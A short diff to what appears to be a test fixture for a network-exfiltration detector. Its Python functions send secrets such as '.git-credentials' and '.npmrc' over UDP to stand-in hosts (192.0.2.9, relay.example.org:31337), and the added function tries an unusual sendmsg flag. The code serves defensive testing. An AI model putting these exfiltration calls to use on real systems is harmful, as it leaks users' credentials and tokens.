@@ -107,6 +107,14 @@ def start_raw():
 def start_datagram():
     socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secret(".git-credentials").encode(), ("192.0.2.9", 9999))
 
+def start_with_flags_that_are_not_seen():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        s.sendmsg([b"x"], [], 0x4010, ("192.0.2.9", 9999))
+    except OSError as e:
+        if e.errno == 22: # it was refused: the test hears of it by the theft
+            secret()
+
 def start_datagrams_in_parts():
     s, text = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), secret(".npmrc").encode()
     at = socket.getaddrinfo("relay.example.org", 31337, socket.AF_INET)[0][4]
